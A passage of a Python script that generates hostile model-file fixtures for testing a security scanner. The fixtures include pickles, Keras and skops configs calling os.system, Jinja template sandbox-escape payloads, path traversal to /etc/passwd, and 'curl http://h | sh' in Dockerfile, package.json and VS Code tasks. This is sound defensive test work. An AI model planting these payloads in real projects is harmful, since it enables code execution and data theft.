        "legacy.pth": lambda: b"\x80\x02\x8a\x0al\xfc\x9cF\xf9 j\xa8P\x19.\x80\x02M\xe9\x03.\x80\x02}." + RUN,
        "legacy_late.pth": lambda: b"\x80\x02\x8a\x0al\xfc\x9cF\xf9 j\xa8P\x19.\x80\x02M\xe9\x03.\x80\x02}.\x80\x02}."
        + RUN,
        "objects.npy": lambda: npy("'|O'", RUN),
        "objects.npz": lambda: archive(("a.npy", npy("'|O'", RUN)), method=zipfile.ZIP_DEFLATED),
        "inner.mar": lambda: archive(
            ("MAR-INF/MANIFEST.json", json.dumps({"model": {"handler": "handler.py", "serializedFile": "m.pt"}})),
            ("handler.py", "import os\nos.system('id')\n"),
            ("m.pt", torch_zip(pickled(b"}"))),
        ),
        "handler.mar": lambda: archive(
            ("MAR-INF/MANIFEST.json", json.dumps({"model": {"handler": "h.py"}})),
            ("h.py", "import os\nos.system('id')\n"),
        ),
        "r.rds": lambda: gzip.compress(b"X\n\0\0\0\3\0\4\2\0\0\3\5\0" + bytes(40)),
        "java.ser": lambda: b"\xac\xed\0\5sr\0\x11java.util.HashMap" + bytes(40),
        "ape.llamafile": lambda: b"MZqFpD='\n" + bytes(200),
        "windows.dll": lambda: b"MZ" + bytes(58) + struct.pack("<I", 64) + b"PE\0\0" + bytes(64),
        "mach.dylib": lambda: struct.pack("<I", 0xFEEDFACF) + bytes(60),
        "x.pyc": lambda: b"\xa7\r\r\n" + bytes(12) + b"\xe3" + bytes(40),
        "classes.jar": lambda: archive(
            ("META-INF/MANIFEST.MF", "Main-Class: E\n"), ("E.class", b"\xca\xfe\xba\xbe\0\0\0\x34" + bytes(30))
        ),
        "wasm.bin": lambda: b"\0asm\1\0\0\0" + bytes(10),
        "shell.bin": lambda: b"#!/bin/sh\nid\n",
        "elf_in.zip": lambda: archive(("lib/x.bin", b"\x7fELF" + bytes(60))),
    }


def hidden() -> dict[str, Maker]:
    """A pickle beside something that its loader can't read, or packed in a way that few readers know."""
    config = ("config.json", json.dumps(layer("keras", "Sequential", name="s", layers=[])))
    faults: dict[str, tuple[tuple[str, bytes | str], ...]] = {
        "torch": (("m/data.pkl", b"\x80\x02\xfe."), ("m/version", "3")),
        "torch_empty": (("m/data.pkl", b""), ("m/version", "3")),
        "keras": (("config.json", "{"), ("metadata.json", "{}")),
        "keras_deep": (("config.json", "[" * 500), ("metadata.json", "{}")),
        "weights": (config, ("metadata.json", "{}"), ("model.weights.h5", b"\x89HDF\r\n\x1a\n\xff")),
        "npz": (("a.npy", b"\x93NUMPY\1\0\xff\xff"),),
        "export": (("m/archive_format", "pt2"), ("m/models/model.json", "{")),
    }
    methods = {"deflated": zipfile.ZIP_DEFLATED, "bzip2": zipfile.ZIP_BZIP2, "lzma": zipfile.ZIP_LZMA}
    objects = npy("'|O'", RUN)
    noise = bytes(n * n % 251 for n in range(3000))
    out: dict[str, Maker] = {}
    for fault, members in faults.items():
        ending = "npy" if fault == "npz" else "pkl"
        out[f"beside_{fault}.zip"] = lambda m=members, e=ending: archive(
            *m, (f"z/other.{e}", objects if e == "npy" else RUN)
        )
        out[f"before_{fault}.zip"] = lambda m=members, e=ending: archive(
            (f"a/other.{e}", objects if e == "npy" else RUN), *m
        )
    for how, method in methods.items():
        out[f"{how}.npz"] = lambda m=method: archive(("a.npy", objects), method=m)
        out[f"{how}.pt"] = lambda m=method: archive(("m/data.pkl", RUN), ("m/version", "3"), method=m)
        out[f"{how}_cut.npz"] = lambda m=method: damaged(archive(("a.npy", objects + noise), method=m))
    for depth in (20, 49, 60, 66, 67, 120):
        out[f"deep{depth}.keras"] = lambda d=depth: keras(nested(d, layer("os", "system")))
    for first in range(32, 127):  # what a weak mark may be taken for
        out[f"begins{first}.jinja"] = lambda c=first: b"0123456" + bytes([c]) + b"{{ x.__init__.__globals__ }}"
    return out


def skops() -> dict[str, Maker]:
    """schema.json of skops: each node names a class, and a loader that does something else with it."""
    plain = node("dict", content={})
    args = node("tuple", content=[node("str", loader="JsonNode", content='"id"')])
    system, foreign = ("system", "posix"), ("Thing", "evil")
    state = node(
        "dict", content={"a": node(*foreign, loader="ObjectNode", content=plain)}, key_types=node("list", content=[])
    )
    nodes: dict[str, dict[str, Any]] = {
        "function": node(*system, loader="FunctionNode"),
        "old_function": node(
            "log", "numpy", loader="FunctionNode", content={"module_path": "posix", "function": "system"}
        ),
        "type": node(*system, loader="TypeNode"),
        "object": node(*foreign, loader="ObjectNode", content=plain),
        "inside": node("Pipeline", "sklearn.pipeline", loader="ObjectNode", content=state),
        "constructor": node(*system, loader="ConstructorFromReduceNode", content=args),
        "tree": node(*system, loader="TreeNode", __reduce__={"args": args}, content=plain),
        "loss": node(*system, loader="LossNode", __reduce__={"args": args}, content=plain),
        "loss_args": node(
            "CyHalfSquaredError",
            "sklearn._loss._loss",
            loader="LossNode",
            content=plain,
            __reduce__={"args": node("tuple", content=[node(*system, loader="FunctionNode")])},
        ),
        "operator": node("methodcaller", "operator", loader="OperatorFuncNode", attrs=args),
        "attrgetter": node("attrgetter", "operator", loader="OperatorFuncNode", attrs=args),
        "operator_of": node(*system, loader="OperatorFuncNode", attrs=args),
        "method": node("list", loader="MethodNode", content={"func": "__class__", "obj": node("list", content=[])}),
        "method_of": node(
            *foreign, loader="MethodNode", content={"func": "x", "obj": node(*foreign, loader="ObjectNode")}
        ),
        "partial": node(
            "partial",
            "functools",
            loader="PartialNode",
            content={"func": node(*system, loader="FunctionNode"), "args": args, "kwds": plain, "namespace": plain},
        ),
        "default": node(
            "defaultdict",
            "collections",
            loader="DefaultDictNode",
            content={"main": plain, "default_factory": node(*system, loader="TypeNode")},
        ),
        "dict": node(*foreign, loader="DictNode", content={}, key_types=node("list", content=[])),
        "key_types": node("dict", content={}, key_types=node("list", content=[node(*system, loader="TypeNode")])),
        "list": node(*system, loader="ListNode", content=[]),
        "set": node(*system, loader="SetNode", content=[]),
        "tuple": node(*system, loader="TupleNode", content=[]),
        "array": node(*system, loader="NdArrayNode", type="numpy", file="a.npy"),
        "array_items": node(
            "ndarray", "numpy", loader="NdArrayNode", type="json", content=[node(*system, loader="TypeNode")]
        ),
        "masked": node(
            "MaskedArray", "numpy.ma", loader="MaskedArrayNode", content={"data": node(*system, loader="TypeNode")}
        ),
        "random": node(*system, loader="RandomStateNode", content=plain),
        "generator": node(
            "fork", "posix", loader="RandomGeneratorNode", content={"bit_generator": plain, "seed_seq": plain}
        ),
        "dtype": node("dtype", "numpy", loader="DTypeNode", content=node(*system, loader="TypeNode")),
        "unknown_loader": node("dict", loader="EvilNode", content=plain),
        "cached": node(
            "tuple", content=[node(*foreign, loader="ObjectNode", __id__=7), node("x", loader="CachedNode", __id__=7)]
        ),
    }
    numbers = ("a.npy", npy("'<f4'", bytes(4)))
    return {
        f"{name}.skops": lambda root=root: archive(
            numbers, ("schema.json", json.dumps(root | {"protocol": 2, "_skops_version": "0.16"}))
        )
        for name, root in nodes.items()
    }


def graphs() -> dict[str, Maker]:
    """Formats with operators, configurations, templates and paths."""
    traverse = field(5, field(1, 4)[:0] + onnx_external("../../../etc/passwd"))
    branch = field(1, b"then_branch") + field(6, onnx_node("PyOp", "ai.onnx.contrib")) + field(20, 5)
    constant = field(1, b"value") + field(5, onnx_external("/etc/passwd")) + field(20, 4)
    sparse = field(15, field(1, onnx_external("../x")) + field(2, onnx_external("../y")))
    lambda_code = base64.b64encode(b"\xe3" + bytes(40)).decode()
    out: dict[str, Maker] = {
        "traversal.onnx": lambda: onnx(onnx_node("Relu") + traverse),
        "absolute.onnx": lambda: onnx(onnx_node("Relu") + field(5, onnx_external("/etc/passwd"))),
        "windows.onnx": lambda: onnx(onnx_node("Relu") + field(5, onnx_external("..\\..\\x"))),
        "drive.onnx": lambda: onnx(onnx_node("Relu") + field(5, onnx_external("C:\\x"))),
        "dots.onnx": lambda: onnx(onnx_node("Relu") + field(5, onnx_external("a/./../../x"))),
        "url.onnx": lambda: onnx(onnx_node("Relu") + field(5, onnx_external("http://h/x"))),
        "constant.onnx": lambda: onnx(onnx_node("Constant", "", constant)),
        "branch.onnx": lambda: onnx(onnx_node("If", "", branch)),
        "sparse.onnx": lambda: onnx(onnx_node("Relu") + sparse),
        "contrib.onnx": lambda: onnx(onnx_node("PyOp", "ai.onnx.contrib")),
        "context.onnx": lambda: onnx(
            onnx_node(
                "EPContext", "com.microsoft", field(1, b"ep_cache_context") + field(4, b"../../x.so") + field(20, 3)
            )
        ),
        "training.onnx": lambda: onnx(onnx_node("Relu"), field(20, field(1, onnx_node("PyOp", "ai.onnx.contrib")))),
        **{
            f"tf_{op}/saved_model.pb": (lambda op=op: saved_model(tf_node(op)))
            for op in (
                "ReadFile",
                "WriteFile",
                "PyFunc",
                "EagerPyFunc",
                "PyFuncStateless",
                "SaveV2",
                "MatchingFiles",
                "TextLineDataset",
                "TFRecordDataset",
                "DatasetToTFRecord",
                "InitializeTableFromTextFileV2",
                "CreateSummaryFileWriter",
                "Abort",
                "ImportEvent",
                "FixedLengthRecordDatasetV2",
                "WholeFileReaderV2",
                "MergeV2Checkpoints",
                "SqlDataset",
                "RpcCall",
                "XlaLaunch",
                "MyOwnOperator",
                "SaveDatasetV2",
                "LoadDataset",
                "ShardedFilename",
                "RestoreV2",
                "Copy",
                "DebugIdentityV3",
                "_Send",
                "RemoteCall",
                "CacheDatasetV2",
                "SnapshotDatasetV2",
            )
        },
        "tf_function/saved_model.pb": lambda: saved_model(tf_node("WriteFile"), in_function=True),
        "tf_print/saved_model.pb": lambda: saved_model(tf_node("PrintV2", output_stream="file:///tmp/x")),
        "tf_shared/saved_model.pb": lambda: saved_model(
            tf_node("HashTableV2", shared_name="x"), tf_node("DebugIdentityV2", debug_urls="file:///tmp/x")
        ),
        "graph.pb": lambda: field(1, tf_node("WriteFile")),
        "frozen.pb": lambda: field(1, tf_node("PyFunc")) + field(4, field(1, 22)),
        "flex.tflite": lambda: tflite("FlexReadFile"),
        "custom.tflite": lambda: tflite("MyOperator"),
        "py.tflite": lambda: tflite("FlexPyFunc"),
        "metadata.tflite": lambda: tflite("TFLite_Detection_PostProcess") + archive(("labels.pkl", RUN)),
        "code.pt": lambda: script('torch.save(x, "/tmp/x")', "return x"),
        "constants.pt": lambda: script(more=(("m/constants.pkl", RUN),)),
        "debug.pt": lambda: script(more=(("m/code/__torch__.py.debug_pkl", RUN),)),
        "extra.pt": lambda: script(more=(("m/extra/x.pkl", RUN),)),
        "other_code.pt": lambda: script(more=(("m/code/__torch__/os.py", "import os\nos.system('id')\n"),)),
        "bytecode.ptl": lambda: script(more=(("m/bytecode.pkl", RUN),)),
        "native.pt2": lambda: archive(
            ("m/archive_format", "pt2"), ("m/data/aotinductor/model/a.so", b"\x7fELF" + bytes(60))
        ),
        "constants.pt2": lambda: archive(
            ("m/archive_format", "pt2"), ("m/models/model.json", "{}"), ("m/data/constants/custom_obj_0", RUN)
        ),
        "weights.pt2": lambda: archive(
            ("m/archive_format", "pt2"), ("m/models/model.json", "{}"), ("m/data/weights/model.pt", torch_zip())
        ),
        "old.pt2": lambda: archive(
            ("version", "1"), ("serialized_exported_program.json", "{}"), ("serialized_state_dict.pt", torch_zip())
        ),
        "sources.pt2": lambda: archive(
            ("m/archive_format", "pt2"),
            ("m/data/aotinductor/model/a.cpp", "int main(){}"),
            ("m/data/aotinductor/model/a.cubin", b"\x7fELF" + bytes(60)),
        ),
        "duplicate.safetensors": lambda: safetensors(
            '{"a":{"dtype":"F32","shape":[],"data_offsets":[0,4]},"a":{"dtype":"U8","shape":[4],"data_offsets":[0,4]}}',
            bytes(4),
        ),
        "hole.safetensors": lambda: safetensors(
            {"a": {"dtype": "F32", "shape": [1], "data_offsets": [40, 44]}},
            RUN + bytes(44 - len(RUN)) if len(RUN) < 44 else RUN[:44],
        ),
        "huge.safetensors": lambda: struct.pack("<Q", 1 << 62) + b"{}",
        "template.safetensors": lambda: safetensors(
            {"__metadata__": {"chat_template": "{{ cycler.__init__.__globals__.os.popen('id') }}"}}
        ),
        "nested.keras": lambda: keras(nested(300, layer("os", "system"))),
        "eval.keras": lambda: keras(sequential(layer("builtins", "eval"))),
        "function.keras": lambda: keras(
            sequential(
                layer(
                    "keras.layers",
                    "Activation",
                    activation=layer("builtins", "function", "system") | {"module": "os", "config": "system"},
                )
            )
        ),
        "lambda.keras": lambda: keras(
            sequential(layer("keras.layers", "Lambda", function=layer("builtins", "__lambda__", code=lambda_code)))
        ),
        "shape_lambda.keras": lambda: keras(
            sequential(
                layer(
                    "keras.layers",
                    "Lambda",
                    function="relu",
                    output_shape=layer("builtins", "__lambda__", code=lambda_code),
                )
            )
        ),
        "get_file.keras": lambda: keras(sequential(layer("keras.utils", "get_file", fname="x", origin="http://h/x"))),
        "wrapper.keras": lambda: keras(
            sequential(layer("keras.layers", "TorchModuleWrapper", module=base64.b64encode(torch_zip()).decode()))
        ),
        "vocabulary.keras": lambda: keras(sequential(layer("keras.layers", "StringLookup", vocabulary="/etc/passwd"))),
        "integer_vocabulary.keras": lambda: keras(
            sequential(layer("keras.layers", "IntegerLookup", vocabulary="https://h/x"))
        ),
        "text_vocabulary.keras": lambda: keras(
            sequential(layer("keras.layers", "TextVectorization", vocabulary="../../etc/passwd"))
        ),
        "layer_type.keras": lambda: keras(
            sequential(layer("keras.src.saving.saving_lib", "load_model", filepath="/x"))
        ),
        "compile.keras": lambda: keras(sequential(compile_config={"optimizer": "adam", "loss": layer("evil", "Loss")})),
        "registered.keras": lambda: keras(sequential(layer(None, "Thing", "Custom>Thing"))),
        "enable.keras": lambda: keras(layer("keras.config", "enable_unsafe_deserialization")),
        "dtype.keras": lambda: keras(sequential(layer("keras.layers", "Dense", units=1, dtype=layer("os", "system")))),
        "initializer.keras": lambda: keras(
            sequential(
                layer("keras.layers", "Dense", units=1, kernel_initializer=layer("shutil", "rmtree", path="/tmp/x"))
            )
        ),
        "assets.keras": lambda: keras(sequential(), ("assets/x.pkl", RUN)),
        "weights.keras": lambda: keras(sequential(), ("model.weights.h5", RUN)),
        "npz.keras": lambda: keras(sequential(), ("model.weights.npz", archive(("a.npy", npy("'|O'", RUN))))),
        "traversal.keras": lambda: keras(sequential(), ("assets/../../../x", "1")),
        "numpy_config.keras": lambda: keras(
            sequential(
                layer(
                    "keras.layers",
                    "Dense",
                    units={
                        "class_name": "__typespec__",
                        "module": "os",
                        "spec_name": "system",
                        "config": {},
                        "registered_name": None,
                    },
                )
            )
        ),
        "model.json": js(
            sequential(layer("keras.layers", "Lambda", function=layer("builtins", "__lambda__", code=lambda_code)))
        ),
        "ext.msgpack": lambda: b"\x81\xa1a\xc7" + bytes([len(RUN)]) + b"\x2a" + RUN,
    }
    for number, template in enumerate(
        (
            "{{ cycler.__init__.__globals__.os.popen('id').read() }}",
            "{% set x = '__cl' ~ 'ass__' %}{{ ''|attr(x) }}",
            "{{ self._TemplateReference__context }}",
            "{% include '/etc/passwd' %}",
            "{% import 'x' as y %}{{ y.z() }}",
            "{{ messages['\\x5f\\x5fclass\\x5f\\x5f'] }}",
            "{{ ''['__cla' 'ss__'] }}",
            "{{ request.application }}",
            "{{ lipsum.__globals__ }}",
            "{% for x in ().__class__.__base__.__subclasses__() %}{% endfor %}",
            "{{ ''.format_map(x) }}",
            "{{ '{0.__class__}'.format(1) }}",
            "{{ messages|map('attr', '__class__')|list }}",
            "{{ messages|groupby('__class__') }}",
            "{% call x() %}{% endcall %}{{ caller.__globals__ }}",
            "{{ joiner.__init__ }}",
            "{{ namespace.__init__ }}",
            "{{ messages|sort(attribute='__class__.__name__') }}",
            "{% extends x %}",
            "{{ url_for.__globals__ }}",
            "{{ config.items() }}",
            "{{ ''|attr('__class__'|lower) }}",
            "{{ (1).__class__ }}",
            "{% if x.__class__ %}{% endif %}",
            "{# {{ #}{{ x.__init__.__globals__ }}",
            "{%- set ns = namespace(a=cycler.__init__) -%}{{ ns.a.__globals__ }}",
            "{{ strftime_now.__globals__ }}",
            "{{ raise_exception.__globals__['os'] }}",
            "{% macro m() %}{% endmacro %}{{ m.__globals__ }}",
            "{{ messages|sum(attribute='__class__') }}",
        )
    ):
        out[f"template{number:02}.gguf"] = lambda t=template: gguf(("tokenizer.chat_template", t))
        out[f"template{number:02}.jinja"] = lambda t=template: t.encode()
    out["named.gguf"] = lambda: gguf(("tokenizer.chat_template.tool_use", "{{ cycler.__init__.__globals__ }}"))
    out["twice.gguf"] = lambda: gguf(
        ("tokenizer.chat_template", "{{ cycler.__init__ }}"), ("tokenizer.chat_template", "{{ x }}")
    )
    return out


# All others must be dangerous or suspicious. These may be as good as the verdict here, and no better, for this reason.
EXPECT: dict[str, tuple[str, str]] = {
    **dict.fromkeys(
        (
            "duplicate.safetensors",
            "hole.safetensors",
            "huge.safetensors",
            "twice.gguf",
            "metadata.tflite",
            "strong_flag.pt",
            "encrypted_flag.pt",
            "wrong_checksum.pt",
            "two_names.pt",
        ),
        ("broken", "the format itself is attacked: a reader that refuses is right, too"),
    ),
    "suffixed.pt": (
        "broken",
        "no reader finds a directory that 70,000 bytes follow: torch's, Python's and ours search 65,557",
    ),
    **dict.fromkeys(
        ("java.ser", "r.rds"), ("unknown", "serialized objects of other languages: no loader of models opens them")
    ),
    "seven.7z": ("unknown", "an archive under its own name, whose content is not listed: it must be unpacked first"),
    **dict.fromkeys(
        ("docker", "makefile", "mlproject", "package_json", "shell", "vscode"),
        ("unknown", "runs if its own tool is started; loading the model reads none of it"),
    ),
    **dict.fromkeys(
        ("link_out", "link_up", "link_loop", "link_folder"),
        ("unknown", "a link that leads out of the folder, or to nowhere, is not followed"),
    ),
    **dict.fromkeys(("dvc", "workflow"), ("harmless", "reading the YAML runs nothing; the command is a note")),
    "call-torch.fx.experimental.unification.multipledispatch.core.dispatch.pkl": (
        "harmless",
        "returns a decorator; nothing is called with it",
    ),
    **dict.fromkeys(
        ("custom.tflite", "registered.keras"),
        ("harmless", "needs code that the loading program has registered itself: a note says which"),
    ),
    "file_handler.pkl": ("harmless", "__init__ does not run, no file is opened, and logging does not know the handler"),
    "hash_key.pkl": ("harmless", "the hash of an empty path"),
    "in_comment.pt": ("harmless", "no reader of archives gives the comment to anybody"),
    **dict.fromkeys(
        ("memory.pkl", "pipeline_memory.pkl"),
        ("harmless", "the cache's folder is made by __init__, which does not run"),
    ),
    "nested_dtype.pkl": ("harmless", "numpy returns the bytes that a scalar of objects is given, and loads nothing"),
    "persistent.pkl": ("harmless", "an unpickler without persistent_load refuses it; torch's compares the text"),
    "template.safetensors": ("harmless", "no loader renders texts of the metadata: a note says that they are there"),
    **{
        f"template{n}.{kind}": ("harmless", "a name that chat templates do not have: it renders as nothing")
        for n in ("07", "20")
        for kind in ("gguf", "jinja")
    },
    **{f"tf_{op}/saved_model.pb": ("harmless", "it only computes") for op in ("Copy", "ShardedFilename")},
}
HOSTILE: dict[str, Maker] = gadgets() | states() | opcodes() | containers() | hidden() | skops() | graphs()
assert not HOSTILE.keys() & hostile_more.MORE.keys()
HOSTILE |= hostile_more.MORE
assert not HOSTILE.keys() & hostile_detours.DETOURS.keys()
HOSTILE |= hostile_detours.DETOURS
assert not HOSTILE.keys() & hostile_native.NATIVE.keys()
HOSTILE |= hostile_native.NATIVE
EXPECT |= hostile_more.EXPECT | hostile_detours.EXPECT


def folders() -> dict[str, dict[str, bytes]]:
    """Whole repositories: what must be found is in one of the files."""
    bare = json.dumps({"model_type": "bert"}).encode()
    return {
        "setup": {"config.json": bare, "setup.py": b"import os\nos.system('id')\n"},
        "requirements": {
            "config.json": bare,
            "requirements.txt": b"--extra-index-url http://h/\ngit+https://h/x.git\n",
        },
        "notebook": {"config.json": bare, "demo.ipynb": notebook("!curl http://h | sh")},
        "notebook_code": {"demo.ipynb": notebook("import os\n", "os.system('id')\n")},
        "auto_map": {
            "config.json": json.dumps({"auto_map": {"AutoModel": "modeling_x.X"}}).encode(),
            "modeling_x.py": b"import os\nos.system('id')\n",
        },
        "auto_map_far": {"config.json": json.dumps({"auto_map": {"AutoModel": "evil/repo--modeling_x.X"}}).encode()},
        "auto_map_missing": {"config.json": json.dumps({"auto_map": {"AutoModel": "modeling_x.X"}}).encode()},
        "tokenizer": {
            "tokenizer_config.json": json.dumps({"auto_map": {"AutoTokenizer": ["tok.T", None]}}).encode(),
            "tok.py": b"import socket\nsocket.create_connection(('h', 1))\n",
        },
        "processor": {
            "preprocessor_config.json": json.dumps({"auto_map": {"AutoProcessor": "p.P"}}).encode(),
            "p.py": b"exec('1')\n",
        },
        "generation": {"config.json": bare, "custom_generate/generate.py": b"import os\nos.system('id')\n"},
        "handler": {
            "config.json": bare,
            "handler.py": b"import subprocess\nclass E:\n    def __init__(self, path): subprocess.run('id')\n",
        },
        "helper_module": {
            "config.json": json.dumps({"auto_map": {"AutoModel": "m.X"}}).encode(),
            "m.py": b"from .h import f\nclass X: pass\n",
            "h.py": b"__import__('o' + 's').system('id')\n",
        },
        "sitecustomize": {"sitecustomize.py": b"import os\nos.system('id')\n"},
        "conftest": {"conftest.py": b"import os\nos.system('id')\n"},
        "hidden": {"config.json": bare, ".cache/.x.pkl": RUN},
        "pyc": {"config.json": bare, "__pycache__/m.cpython-311.pyc": b"\xa7\r\r\n" + bytes(12) + b"\xe3" + bytes(40)},
        "git_hook": {"config.json": bare, ".git/hooks/pre-commit": b"#!/bin/sh\nid\n"},
        "shell": {"config.json": bare, "run.sh": b"curl http://h | sh\n"},
        "yaml_python": {"c.yaml": b"a: !!python/object/apply:os.system ['id']\n"},
        "yaml_tuple": {"c.yaml": b"a: !!python/object/new:os.system ['id']\n"},
        "hydra": {"config.yaml": b"model:\n  _target_: subprocess.run\n  args: id\n"},
        "mlproject": {"MLproject": b"entry_points:\n  main:\n    command: 'curl http://h | sh'\n"},
        "mlmodel": {
            "MLmodel": b"flavors:\n  python_function:\n    loader_module: mlflow.pyfunc.model\n    model: p.pkl\n",
            "p.pkl": RUN,
        },
        "docker": {"Dockerfile": b"FROM x\nRUN curl http://h | sh\n"},
        "conda": {"conda.yaml": b"dependencies:\n- pip:\n  - git+https://h/x\n"},
        "adapter": {
            "adapter_config.json": json.dumps(
                {
                    "peft_type": "LORA",
                    "base_model_name_or_path": "x",
                    "auto_mapping": {"parent_library": "evil.m", "base_model_class": "X"},
                }
            ).encode()
        },
        "diffusers": {
            "model_index.json": json.dumps({"_class_name": ["pipeline", "P"], "unet": ["unet", "U"]}).encode(),
            "pipeline.py": b"import os\nos.system('id')\n",
        },
        "mlpackage": {
            "m.mlpackage/Manifest.json": json.dumps(
                {
                    "fileFormatVersion": "1.0.0",
                    "itemInfoEntries": {"A": {"path": "../../etc/passwd", "name": "x", "author": "x"}},
                    "rootModelIdentifier": "A",
                }
            ).encode()
        },
        "core_ml": {"m.mlpackage/Data/com.apple.CoreML/model.mlmodel": field(1, 4) + field(555, field(10, b"Evil"))},
        "pdmodel": {"inference.pdiparams": RUN},
        "dcp": {"__0_0.distcp": torch_zip(), ".metadata": RUN},
        "dvc": {"dvc.yaml": b"stages:\n  a:\n    cmd: curl http://h | sh\n"},
        "modules": {"modules.json": json.dumps([{"idx": 0, "path": "", "type": "os.system"}]).encode()},
        "sentence": {
            "config_sentence_transformers.json": bare,
            "modules.json": json.dumps([{"type": "m.X", "path": ""}]).encode(),
            "m.py": b"import os\nos.system('id')\n",
        },
        "pyproject": {
            "pyproject.toml": b"[build-system]\nrequires = ['evil']\nbuild-backend = 'b'\nbackend-path = ['.']\n",
            "b.py": b"import os\nos.system('id')\n",
        },
        "makefile": {"Makefile": b"all:\n\tcurl http://h | sh\n"},
        "package_json": {"package.json": json.dumps({"scripts": {"postinstall": "curl http://h | sh"}}).encode()},
        "workflow": {".github/workflows/x.yml": b"on: push\njobs:\n  a:\n    steps:\n    - run: curl http://h | sh\n"},
        "vscode": {
            ".vscode/tasks.json": json.dumps(
                {"tasks": [{"command": "curl http://h | sh", "runOptions": {"runOn": "folderOpen"}}]}
            ).encode()
        },
        "variables": {"saved_model.pb": saved_model(tf_node("Relu")), "variables/variables.index": RUN},
        "keras_metadata": {
            "saved_model.pb": saved_model(tf_node("Relu")),
            "keras_metadata.pb": field(
                1, field(5, json.dumps(layer("keras.layers", "Lambda", function=["4wE=", None, None])).encode())
            ),
        },
        "tf_assets": {
            "saved_model.pb": saved_model(
                tf_node("Relu"), assets=field(6, field(1, b"x") + field(2, b"../../etc/passwd"))
            )
        },
    }


FOLDERS = folders() | hostile_more.FOLDERS | hostile_detours.FOLDERS
LINKS = {"link_out": "/etc/passwd", "link_loop": "link_loop", "link_up": "../outside.pkl", "link_folder": "/etc"}


def write(folder: pathlib.Path) -> None:
    for name, make in HOSTILE.items():
        path = folder / "files" / name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_bytes(make())
    for repository, members in FOLDERS.items():
        for name, content in members.items():
            path = folder / "folders" / repository / name
            path.parent.mkdir(parents=True, exist_ok=True)
            path.write_bytes(content)
    (folder / "folders" / "outside.pkl").write_bytes(RUN)
    for name, leads in LINKS.items():
        path = folder / "folders" / name
        path.mkdir(exist_ok=True)
        if not (path / name).is_symlink():
            os.symlink(leads, path / name)


def write_manifest(folder: pathlib.Path) -> None:
    """For bench/bench_audit.py: the single files that no reader may pass."""
    rows = {name: {"expect": "not harmless"} for name in HOSTILE if name not in EXPECT}
    (folder / "files" / "manifest.json").write_text(json.dumps(rows))


if __name__ == "__main__":
    write(pathlib.Path(sys.argv[1]))
    write_manifest(pathlib.Path(sys.argv[1]))
